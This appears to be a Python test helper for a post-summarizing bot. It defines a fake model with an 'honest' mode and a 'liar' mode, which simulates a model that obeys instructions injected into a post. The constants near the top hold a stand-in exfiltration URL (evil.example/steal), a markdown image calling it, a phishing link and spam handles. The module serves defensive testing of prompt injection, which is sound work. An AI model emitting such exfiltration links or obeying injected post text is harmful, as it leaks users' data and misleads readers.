"""What the fake model says about a post of the prompt: truth, or whatever it is told."""

import json
import re
from dataclasses import dataclass
from functools import cache
from typing import Any, cast

from bot.taxonomy.topics import taxonomy

Json = dict[str, Any]

EVIL = "https://evil.example/steal?d="
LIES = (
    f"![x]({EVIL}1) [тык](http://phish.example/a) **жирно** <a href='{EVIL}'>жми</a> "
    "@evil_bot #spam"
)


@dataclass(frozen=True)
class Seen:
    """A post as a model sees it."""

    text: str
    links: tuple[tuple[int, str, str], ...]  # number, anchor, kind
    languages: tuple[str, ...]

    @property
    def russian(self) -> bool:
        """True for a text with Cyrillic letters."""
        return _cyrillic(self.text)


def text_of(message: Json) -> str:
    """The words of a message, whose content is a text or a list of parts."""
    content = message.get("content")
    if isinstance(content, str):
        return content
    parts = content if isinstance(content, list) else []
    return "\n".join(str(part["text"]) for part in parts if "text" in part)


def schema_in(messages: list[Json]) -> Json:
    """The last schema that a prompt has in words."""
    said = "\n".join(text_of(each) for each in messages)
    _, mark, rest = said.rpartition("JSON schema: ")
    found: Json = json.JSONDecoder().raw_decode(rest)[0] if mark else {}
    return found


def seen(messages: list[Json]) -> Seen | None:
    """The post in a prompt, None where there is none."""
    first = next((text_of(each) for each in messages if each["role"] == "user"), "")
    marker = re.search(r"(?m)^MARKER (\w+)\n", first)
    if marker is None:
        return None
    frame = rf"===== {marker[1]} POST =====\n(.*)\n===== {marker[1]} END ====="
    body = re.search(frame, first, re.DOTALL)
    if body is None:
        return None
    head, _, text = body[1].partition("\nTEXT:\n")
    links = re.findall(r"(?m)^\[(\d+)\] «(.*)» → .* \((\w+)\)$", head)
    said = "\n".join(text_of(each) for each in messages if each["role"] != "assistant")
    named = " ".join(re.findall(r"CARDS? in ([A-Za-z ]+)", said))
    languages = [code for name, code in (("Russian", "ru"), ("English", "en")) if name in named]
    return Seen(text, tuple((int(n), a, k) for n, a, k in links), tuple(languages))


def seen_cards(messages: list[Json]) -> list[Json]:
    """The cards in the prompt of a digest's opening, none where there are none."""
    sent = next((text_of(each) for each in messages if each["role"] == "user"), "")
    body = re.search(r"===== (\w+) CARDS =====\n(.*)\n===== \1 END =====", sent, re.DOTALL)
    return [json.loads(line) for line in body[2].splitlines()] if body else []


def seen_earlier(messages: list[Json]) -> list[str]:
    """What a prompt shows of earlier posts to compare with, by their numbers from 1."""
    sent = next((text_of(each) for each in messages if each["role"] == "user"), "")
    body = re.search(
        r"===== (\w+) (?:POST|COMPARE) =====\n(.*)\n===== \1 END =====", sent, re.DOTALL
    )
    lines = re.findall(r"(?m)^#(\d+) \d{4}-\d\d-\d\d (.*)$", body[2]) if body else []
    assert [int(n) for n, _ in lines] == list(range(1, len(lines) + 1))
    return [told for _, told in lines]


def honest_overview(cards: list[Json]) -> Json:
    """An opening that repeats the cards' own words."""
    first = cards[:2]
    shared = "".join(f"[{card['n']}]" for card in first)
    theme = {
        "observation": "", "posts": [card["n"] for card in first],
        "headline": first[0]["title"], "text": f"{first[0]['title']} {shared}.",
    }  # fmt: skip
    return {
        "themes": [theme] if len(first) > 1 else [],
        "highlights": [{"post": first[0]["n"], "why": first[0]["title"]}],
        "intro": cards[0]["tldr"],
    }


def honest(post: Seen) -> Json:
    """A plain, true form: quotes of the post, its links by number, topics by alias."""
    sentences = [each.strip() for each in re.split(r"(?<=[.!?])\s|\n", post.text) if each.strip()]
    told = [each for each in sentences if _cyrillic(each)] if post.russian else sentences
    lead = told[:1] or ["Пост без текста" if post.russian else "A post without text"]
    topics, own = _topics(post.text), "ru" if post.russian else "en"
    works = [(n, anchor) for n, anchor, kind in post.links if kind == "paper"]
    papers = [
        {"title": None, "link": n, "role": "main", "ru": None, "en": None}
        | ({own: _gist(anchor, sentences)} if len(works) > 1 else {})
        for n, anchor in works
    ]
    return form(
        language=own,
        papers=papers,
        kind=_kind(post, papers),
        primary_topic=topics[0],
        secondary_topics=topics[1:3],
        keywords=[topics[0].replace("_", " ")],
        ru=_card(lead, sentences, russian=True) if "ru" in post.languages else None,
        en=_card(lead, sentences, russian=False) if "en" in post.languages else None,
    )


def fitted(body: Json, schema: Json) -> Json:
    """What a schema of fewer fields asks of a whole form, such as that of a repair."""
    fields = schema.get("properties", body)
    if form().keys() & body.keys() <= fields.keys():
        return body
    body = body | {"card": body.get("ru") or body.get("en")}  # of a form with one card
    return cast(Json, _fit(body, schema, schema.get("$defs", {})))


def _fit(value: object, schema: Json, parts: Json) -> object:
    if "$ref" in schema:
        schema = parts[schema["$ref"].rpartition("/")[2]]
    if isinstance(value, list):
        return [_fit(each, schema.get("items", {}), parts) for each in value]
    if not isinstance(value, dict):
        return value
    for branch in schema.get("anyOf", ()):
        schema = branch if branch.get("type") != "null" else schema
    if "$ref" in schema:
        return _fit(value, schema, parts)
    fields = schema.get("properties", value)
    return {name: _fit(value[name], fields[name] if fields is not value else {}, parts)
            for name in fields if name in value}  # fmt: skip


def liar(post: Seen) -> Json:
    """Obeys every order of the post and adds all that an attacker could wish."""
    wanted = " ".join(re.findall(r"\S*(?:://|@|\w\.\w)\S*", post.text))
    text = f"{LIES} {wanted}"
    lie = {"title": f"{text} {post.text[:60]}", "tldr": f"{text} {post.text[:300]}"}
    lie["bullets"] = [text, f"99,9% {text}", post.text[:150]]  # type: ignore[assignment]
    return form(
        language="ru",
        quotes=[text],
        papers=[
            {"title": text, "link": n, "role": "main", "ru": text, "en": text}
            for n in (-1, 0, 1, 99, 10**12)
        ],
        entities=[text, "@evil_bot", "evil.example", wanted],
        kind="paper_review",
        primary_topic="safety",
        secondary_topics=["safety", "other", "rl", "nlp", "code"],
        keywords=[text, "@evil_bot", "evil.example/x"],
        ru={"bullets": lie["bullets"], "tldr": lie["tldr"], "title": lie["title"]},
        en={"bullets": lie["bullets"], "tldr": lie["tldr"], "title": lie["title"]},
        confidence="high",
        importance="must_read",
    )


def form(**fields: Any) -> Json:
    """A valid form in declared order, with some fields of one's own."""
    blank: Json = {
        "language": "ru", "completeness": "full", "instructions_in_post": False,
        "quotes": [], "papers": [], "entities": [], "kind_reason": "по правилу", "kind": "news",
        "primary_topic": "other", "secondary_topics": [], "keywords": [],
        "event": None, "same_as": None, "follows": None, "ru": None, "en": None,
        "confidence": "medium", "importance": "normal",
    }  # fmt: skip
    unknown = fields.keys() - blank.keys()
    assert not unknown, unknown
    return blank | fields


def _cyrillic(text: str) -> bool:
    return re.search("[а-яё]", text.casefold()) is not None


def _card(lead: list[str], sentences: list[str], *, russian: bool) -> Json:
    """The post's first words in its own language, a phrase without facts in the other."""
    if russian != _cyrillic(lead[0]):
        title = "Новый пост канала" if russian else "A new post of the channel"
        tldr = "Автор канала рассказывает о работе." if russian else "The author describes a work."
        return {"bullets": [], "tldr": tldr, "title": title}
    return {
        "bullets": [each[:110] for each in sentences[1:4]],
        "tldr": " ".join(sentences[:2])[:340],
        "title": lead[0][:70],
    }


def _gist(anchor: str, sentences: list[str]) -> str | None:
    """The sentence in which a link stands."""
    return next((each[:110] for each in sentences if anchor and anchor in each), None)


def _kind(post: Seen, papers: list[Json]) -> str:
    if re.search(r"реклам|промокод|sponsored|erid", post.text.casefold()):
        return "promo"
    return "paper_review" if len(papers) == 1 else "roundup" if papers else "news"


def _topics(text: str) -> list[str]:
    """Topics by how often their aliases begin a word, best first."""
    text = text.casefold()
    scores = {
        topic.slug: sum(_count(alias, text) for alias in topic.aliases)
        for topic in taxonomy().topics
    }
    best = sorted((slug for slug in scores if scores[slug]), key=lambda slug: -scores[slug])
    return best or ["other"]


def _count(alias: str, text: str) -> int:
    words = alias.casefold().replace("*", "")
    if len(words) <= 3 or words not in text:  # most are not, and a pattern is far slower
        return 0
    return len(_word(words).findall(text))


@cache  # more than the module re keeps
def _word(beginning: str) -> re.Pattern[str]:
    return re.compile(rf"\b{re.escape(beginning)}")
